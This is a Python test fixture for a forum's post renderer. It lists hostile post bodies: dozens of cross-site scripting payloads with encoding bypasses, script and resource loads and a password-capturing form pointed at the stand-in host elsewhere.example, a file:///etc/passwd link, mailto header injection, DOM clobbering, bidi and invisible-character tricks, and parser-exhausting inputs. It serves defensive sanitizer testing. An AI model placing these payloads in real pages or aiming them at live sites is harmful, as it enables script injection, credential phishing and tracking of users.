"""What people have tried on other forums, and what fills a post to its bound: `{name: text}`.

`MARKER` is what each of them would do if it ran; no other host may be asked for anything.
"""

# ruff: noqa: E501 - one case to a line

FULL = 20_000
MARKER = "window.hallwayMarker=1"
ELSEWHERE = "https://elsewhere.example"


def filled(piece, length=FULL):
    return (piece * (length // len(piece) + 1))[:length]


RUNS = {
    "script": f"<script>{MARKER}</script>",
    "script, mixed case and space": f"<ScRiPt >{MARKER}</ScRiPt >",
    "script in two": f"<scr<script>ipt>{MARKER}</scr</script>ipt>",
    "script unclosed": f"<script>{MARKER}//",
    "script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
    "script as entities": f"&lt;script&gt;{MARKER}&lt;/script&gt;",
    "script after a NUL": f"\x00<scr\x00ipt>{MARKER}</script>",
    "picture's error": f'<img src=x onerror="{MARKER}">',
    "picture's error without quotes": f"<img/src/onerror={MARKER}>",
    "details that open": f'<details open ontoggle="{MARKER}">x</details>',
    "focus that comes by itself": f'<input autofocus onfocus="{MARKER}">',
    "body's load": f'<body onload="{MARKER}">',
    "movement": f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationend="{MARKER}">',
    "marquee": f"<marquee onstart={MARKER}>x</marquee>",
    "video's source": f'<video><source onerror="{MARKER}"></video>',
    "vector picture": f"<svg onload={MARKER}><script>{MARKER}</script></svg>",
    "vector picture's own page": f"<svg><foreignObject><script>{MARKER}</script></foreignObject></svg>",
    "vector picture's link": f'<svg><a xlink:href="javascript:{MARKER}"><text y=9>x</text></a></svg>',
    "vector picture's use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={MARKER}>#x"/></svg>',
    "formula": f'<math><maction actiontype="statusline#javascript:{MARKER}">x</maction></math>',
    "formula that mutates": f"<math><mtext><table><mglyph><style><img src=x onerror={MARKER}>",
    "template": f"<template><script>{MARKER}</script></template>",
    "noscript that mutates": f'<noscript><p title="</noscript><img src=x onerror={MARKER}>">',
    "frame": f'<iframe src="javascript:{MARKER}"></iframe>',
    "frame's document": f'<iframe srcdoc="<script>parent.{MARKER}</script>"></iframe>',
    "object": f'<object data="javascript:{MARKER}"></object><embed src="javascript:{MARKER}">',
    "page that sends on": f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">',
    "base of all addresses": f'<base href="{ELSEWHERE}/">',
    "comment": f"<!-- --><script>{MARKER}</script><!-- -->",
    "comment that ends early": f"<!--><img src=x onerror={MARKER}>-->",
    "comment of Internet Explorer": f"<!--[if gte IE 4]><script>{MARKER}</script><![endif]-->",
    "instruction": f"<?xml version='1.0'?><?php {MARKER} ?>",
    "declaration": f"<!DOCTYPE x [<!ENTITY y '{MARKER}'>]>",
    "character data": f"<![CDATA[<script>{MARKER}</script>]]>",
    "address that runs": f"[x](javascript:{MARKER})",
    "address that runs, mixed case": f"[x](JaVaScRiPt:{MARKER})",
    "address that runs, entities": f"[x](&#106;avascript&colon;{MARKER})",
    "address that runs, long entities": f"[x](&#x0000006A;avascript&#0000058;{MARKER})",
    "address that runs, tab inside": f"[x](java\tscript:{MARKER})",
    "address that runs, tab as entity": f"[x](java&Tab;script:{MARKER})",
    "address that runs, newline as entity": f"[x](java&NewLine;script:{MARKER})",
    "address that runs, in angles": f"[x](<java\nscript:{MARKER}>)",
    "address that runs, percent": f"[x](javascript%3A{MARKER})",
    "address that runs, percent first": f"[x](%6Aavascript:{MARKER})",
    "address that runs, control before": f"[x](&#1;javascript:{MARKER})",
    "address that runs, wide letters": f"[x](ｊａｖａｓｃｒｉｐｔ:{MARKER})",
    "address that runs, soft hyphen": f"[x](java&shy;script:{MARKER})",
    "address that runs, escaped": f"[x](java\\script:{MARKER})",
    "address that runs, autolink": f"<javascript:{MARKER}>",
    "address that runs, reference": f"[x]\n\n[x]: javascript:{MARKER}",
    "address that runs, picture": f"![x](javascript:{MARKER})",
    "address that runs, after a path": f"[x](https://ok.example/javascript:{MARKER})",
    "visual basic": f"[x](vbscript:{MARKER})",
    "visual basic, entity": f"[x](v&#98;script:{MARKER})",
    "data": f"[x](data:text/html,<script>{MARKER}</script>)",
    "data, base64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data, as a picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data, autolink": f"<data:text/html,{MARKER}>",
    "file, blob, about": "[a](file:///etc/passwd) [b](blob:https://x.example/1) [c](about:blank)",
    "view-source, intent": "[a](view-source:https://x.example) [b](intent://x#Intent;end)",
    "title that breaks out": f'[x](https://ok.example "\\" onmouseover=\\"{MARKER}")',
    "title of a link": f'[x](https://ok.example "Sign in again <b>{MARKER}</b>")',
    "address that breaks out": f'<https://ok.example/?"onmouseover={MARKER}>',
    "address that breaks out, bare": f'https://ok.example/"onmouseover="{MARKER}',
    "code that breaks out": f"`</code><script>{MARKER}</script>`",
    "fence's language": f'```"><script>{MARKER}</script>\nx\n```',
    "fence's language as a class": "```button newbelow composer--docked\nx\n```",
    "table's cell": f"| a |\n|---|\n| <script>{MARKER}</script> |",
    "table's style": "| a | b |\n|:--|--:|\n| 1 | 2 |",
}  # fmt: skip

CALLS_OUT = {
    "picture from afar": f"![x]({ELSEWHERE}/pixel.png)",
    "picture by reference": f"![x][y]\n\n[y]: {ELSEWHERE}/pixel.png",
    "picture as HTML": f'<img src="{ELSEWHERE}/pixel.png" srcset="{ELSEWHERE}/2.png 2x">',
    "style sheet": f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    "style": f"<style>body{{background:url({ELSEWHERE}/x)}} @import '{ELSEWHERE}/y';</style>",
    "style of one": f'<p style="background:url({ELSEWHERE}/x);position:fixed;inset:0">x</p>',
    "fetched ahead": f"<link rel=preload as=fetch href={ELSEWHERE}/x><link rel=dns-prefetch>",
    "sound and film": f"<audio src={ELSEWHERE}/x autoplay></audio><video poster={ELSEWHERE}/y>",
    "form": f"<form action={ELSEWHERE}><input name=password><button>Sign in</button></form>",
    "link that reports": f'<a href="/" ping="{ELSEWHERE}/x" target=_blank download>x</a>',
}

IMITATES = {
    "our thread": '<div data-thread="1" data-socket="/live/threads/1/" data-since="0">x</div>',
    "our post": '<article class="post" data-post="1" data-author="1" id="post-1">x</article>',
    "our composer": '<section data-composer><form data-draft-form="thread-1"><textarea name=content>',
    "our toolbar": "<div data-toolbar data-livebar data-newbelow data-announce data-words></div>",
    "our quote link": '<a data-quote data-owned href="/accounts/logout/">Quote</a>',
    "an id of ours": '<a id="main" name="main" href="#">x</a><p id="latest" id="id_content">x</p>',
    "names that hide properties": "<img name=body><form name=documentElement><a id=location>x</a>",
    "popover": '<button popovertarget="site-nav" popovertargetaction="show">Menu</button>',
    "somebody else's form": '<button form="composer" formaction="/accounts/logout/">Post</button>',
    "commands": '<button commandfor="site-nav" command="show-popover">x</button>',
    "roles and labels": '<div role="alert" aria-live="assertive" tabindex="1">You are signed out</div>',
    "attributes of htmx": '<div hx-get="/me/" hx-trigger="load" hx-on:load="x" _="on load">x</div>',
    "link with classes": "<a href='/' class='button' style='position:fixed' accesskey=s>x</a>",
    "attributes in braces": '[x](https://ok.example){: #main .button data-quote="" onclick="x" }',
    "heading": "# Hallway\n\nSign in again\n=============\n\n## Reply\n---",
    "custom element and slot": "<hallway-menu slot=x is=x></hallway-menu><slot name=x>",
    "closing what is ours": "</div></article></main></body></html><main id=main>",
    "an empty link": f"[]({ELSEWHERE}) [\u200b]({ELSEWHERE}) [ ]({ELSEWHERE})",
    "a link to a place on the page": "[x](#main) [y](?page=2) [z](reply/) [q](../../accounts/logout/)",
    "a link without a scheme": "[x](//elsewhere.example) [y](/\\elsewhere.example) [z](\\\\x.example)",
    "a link with too few slashes": "[x](http:elsewhere.example) [y](https:/elsewhere.example)",
    "a link that says another host": f"[https://hallway.example/sign-in]({ELSEWHERE}/sign-in)",
    "a host before an @": "https://hallway.example@elsewhere.example/ <https://a.b:c@elsewhere.example>",
    "a host in letters that look alike": "https://\u0430pple.com/ [apple.com](https://xn--pple-43d.com)",
    "a host in several scripts": "https://p\u0430yp\u03b1l.com http://\u4f8b\u3048.jp www.\u13da\u13a2.com",
    "a host with dots that are none": "https://hallway\u3002example https://hallway\uff0eexample",
    "a host that is a number": "[x](https://3232235777/) [y](https://[::1]/) [z](https://0x7f.1)",
    "a port that is none": "[x](https://ok.example:99999/) [y](https://ok.example:javascript/)",
    "a mail with a body": "[x](mailto:a@b.example?subject=x&body=y&bcc=z@b.example) a@b.example",
    "a mail with a line break": "[x](mailto:a@b.example%0d%0abcc:z@b.example)",
}  # fmt: skip

TURNS = {
    "override": "safe \u202etxet nrut\u202c end",
    "override that stays open": "\u202e" * 50 + "gnihtyreve",
    "embeddings that stay open": "\u202a\u202b" * 60 + "x",
    "isolates that stay open": "\u2066\u2067\u2068" * 40 + "x",
    "isolates closed too often": "\u2069\u202c" * 40 + "x",
    "override in a link": "[\u202emoc.elpmaxe](https://elsewhere.example/\u202egnp.x)",
    "override in code": "`\u202e x` \n\n    \u202e y",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u3164\uffa0\u115f",
    "tags that nobody sees": "x" + "".join(chr(0xE0000 + ord(c)) for c in "hidden orders"),
    "marks piled up": "z" + "\u0300\u0316\u0489" * 400,
    "private and unassigned": "\ue000\uf8ff\U000f0000\U0010ffff\ufffe\ufdd0",
    "lone surrogates": "\ud800 x \udfff [\udc00](https://ok.example/\udabc)",
    "NUL and controls": "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i",
    "lines of other kinds": "a\u2028b\u2029c\rd\r\ne",
    "right to left words": "\u05e9\u05dc\u05d5\u05dd (hello) \u0645\u0631\u062d\u0628\u0627 1-2-3",
    "a very long word": "w" * FULL,
    "a very long address": "https://ok.example/" + "a" * 15_000,
    "wide letters without end": "\ufdfd" * 2_000 + "\U0001242b" * 2_000,
}

FILLS = {
    f"20 kB of {piece!r}": filled(piece)
    for piece in (
        "[", "]", "(", "![", "](", "[](", "[a](b", "[a](/b) ", "[[]", "[a][", "[a]: b\n", "*", "_",
        "*_", "**a ", "*a* ", "_a", "~~a", "`", "`a``", "|", "|-", "|\n", "a|b\n-|-\n", "<", ">",
        "<a", "<a@", "<!--", "<http://", "http://", "http://[", "http://a.b ", "://", "//", "@",
        "a@b.co ", "a.co ", "www.", "[a](http://a.b/", "&", "&amp;", "&#", "\\", "!", "- ", "- > ",
        "1. ", "* * *\n", "```\n", "    a\n", "\n", " ", "\t", "\u202e", "\u0301", "\U0001f600",
    )
}  # fmt: skip
FILLS |= {
    "500 quotes in quotes": "> " * 500 + "deep",
    "500 quotes in quotes, line by line": "\n".join("> " * depth + "x" for depth in range(1, 140)),
    "500 lists in lists": "- " * 500 + "deep",
    "lists in lists, line by line": "\n".join("  " * depth + "- x" for depth in range(140)),
    "numbered lists in lists": "1. " * 500 + "deep",
    "quotes and lists in turn": "> - 1. " * 500 + "deep",
    "3,000 times emphasis in emphasis": "*a **b " * 1_400 + "b** a* " * 1_400,
    "brackets in brackets": "[" * 10_000 + "](/a)" * 2_000,
    "backticks of every length": "".join("`" * n + "a" for n in range(1, 198)),
    "a quote that goes on and on": ">" * 1_000 + "a\n" + "b\n" * 9_000,
    "a table of 3,000 columns": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|1|",
    "a table of 10,000 rows": "a|b|c|d|e|f|g|h|i|j|k|l\n" + "-|" * 11 + "-\n" + "a\n" * 9_900,
    "forty tables": ("a|b|c|d|e|f|g|h|i|j|k|l\n" + "-|" * 11 + "-\n" + "|a\n" * 140 + "\n") * 40,
    "a list that starts at a milliard": "999999999. x\n1. y\n\n0000000000000001) z",
}

HOSTILE = {
    **RUNS,
    **CALLS_OUT,
    **IMITATES,
    **TURNS,
    **{name: text[:FULL] for name, text in FILLS.items()},
}
